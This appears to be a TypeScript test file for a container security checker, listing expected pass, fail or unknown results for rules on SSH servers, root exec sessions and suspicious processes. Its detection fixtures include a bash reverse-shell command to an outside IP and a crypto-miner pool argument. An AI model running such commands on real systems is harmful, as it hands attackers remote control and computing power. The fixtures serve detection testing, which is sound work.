import {known} from '../../../src/answers/index.js';
import {exampleExec, exampleProcess, rootProcess, withExec} from '../../../src/rules/shared/examples.js';
import {own} from '../../../src/terminal/safe-text.js';
import {type Cases, running} from './case.js';

/** What runs in it. */
export const processCases: Cases = {
	'container-ssh-server': [
		['not running', {State: {Status: 'exited', Running: false}}, 'unknown'],
		['not running, and starts one', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}, 'fail'],
	],
	'container-exec-root': [
		['the health check', withExec({user: own('0'), isRoot: true, isHealthcheck: true}), 'pass'],
		['one that has ended', withExec({user: own('0'), isRoot: true, running: false}), 'pass'],
		['by a name of which nobody knows who it is', withExec({user: own('toor'), isRoot: null, pid: 42}), 'unknown'],
		['by a name, and its process is of uid 0', withExec({user: own('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]), 'fail'],
		[
			'by a name, and its process is of another uid',
			withExec({user: own('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
			'pass',
		],
		['in a container of root', {ExecIDs: ['e1'], Config: {User: ''}, facts: {execs: known([exampleExec({})])}}, 'pass'],
		['nobody looked', {ExecIDs: ['e1'], Config: {User: '1000'}}, 'unknown'],
		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
	],
	'container-live-shell': [
		['a command', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: own('sh -c date')})])}}, 'pass'],
	],
	'container-suspicious-process': [
		[
			'a miner by its pool',
			{facts: {processes: known([exampleProcess('java', {args: own('java -jar x.jar stratum+tcp://pool:3333')})])}},
			'fail',
			'high',
			/miner/,
		],
		[
			'a reverse shell',
			{facts: {processes: known([exampleProcess('bash', {args: own('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])}},
			'fail',
			'high',
			/reverse shell/,
		],
		[
			'a script that waits for a port',
			{
				facts: {
					processes: known([exampleProcess('bash', {args: own('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
				},
			},
			'pass',
		],
		['a probe with nc', {facts: {processes: known([exampleProcess('nc', {args: own('nc -z localhost 80')})])}}, 'pass'],
		[
			'a shell under a server',
			{facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])}},
			'fail',
			'medium',
			/started by nginx/,
		],
		['a scheduler', {facts: running('crond')}, 'fail', 'low'],
		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
	],
};
